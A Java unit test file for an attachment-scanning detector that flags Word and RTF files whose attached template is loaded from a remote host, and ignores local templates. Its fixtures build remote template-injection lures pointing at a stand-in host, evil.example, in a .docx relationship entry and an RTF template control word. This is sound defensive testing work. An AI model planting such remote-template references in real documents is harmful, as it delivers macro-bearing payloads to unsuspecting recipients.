package kanshiki.attachment;

import static kanshiki.file.SampleFiles.relationships;
import static kanshiki.file.SampleFiles.utf8;
import static kanshiki.file.SampleFiles.word;
import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;

class ExternalTemplateTest {
  @Test
  void templateFromOutside() {
    assertThat(
            AttachmentMails.findings(
                new ExternalTemplate(),
                "a.docx",
                word(
                    "word/_rels/settings.xml.rels",
                    relationships("attachedTemplate", "https://evil.example/t.dotm"))))
        .containsExactly("external-template a.docx | https://evil.example/t.dotm");
  }

  @Test
  void rtf() {
    assertThat(
            AttachmentMails.findings(
                new ExternalTemplate(),
                "a.doc",
                utf8("{\\rtf1{\\*\\template https://evil.example/t}}")))
        .containsExactly("external-template a.doc | https://evil.example/t");
  }

  @Test
  void staysQuietOnATemplateOfTheAuthorsDisk() {
    assertThat(
            AttachmentMails.findings(
                new ExternalTemplate(),
                "a.docx",
                word(
                    "word/_rels/settings.xml.rels",
                    relationships("attachedTemplate", "file:///C:/Users/x/letter.dotx"))))
        .isEmpty();
  }
}
